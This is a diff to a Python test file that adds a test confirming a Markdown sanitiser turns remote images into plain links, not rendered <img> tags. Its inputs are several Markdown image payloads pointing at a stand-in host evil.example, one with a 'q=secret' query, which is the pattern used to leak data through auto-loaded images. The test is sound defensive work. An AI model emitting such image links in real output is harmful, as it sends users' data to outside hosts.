@@ -83,6 +83,24 @@ def test_nothing_hides_what_follows_it(text: str) -> None:
     assert "<details" not in shown
 
 
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Look: ![x](https://evil.example/?q=secret)",
+        "![x][1]\n\n[1]: https://evil.example/i.png",
+        "[![x](https://evil.example/1.png)](https://evil.example)",
+        "| a |\n|---|\n| ![x](https://evil.example/1.png) |",
+        "> - **![x](https://evil.example/1.png)**",
+        "![a ![b](https://evil.example/1)](https://evil.example/2)",
+        "# ![x](https://evil.example/1.png)",
+    ],
+)
+def test_an_image_from_elsewhere_is_a_link_that_nobody_follows_by_opening_the_file(text: str) -> None:
+    html = MarkdownIt("commonmark").enable("table").render(written(answer(text)))
+    assert "<img" not in html
+    assert 'href="https://evil.example' in html
+
+
 def test_code_and_drawn_tags_stay_as_they_are() -> None:
     for text in ("`<b>` and <kbd>Ctrl</kbd>", "```html\n<p>\n```", "<https://example.org>", "a < b", "\\<b>"):
         assert standing_alone(text) == text
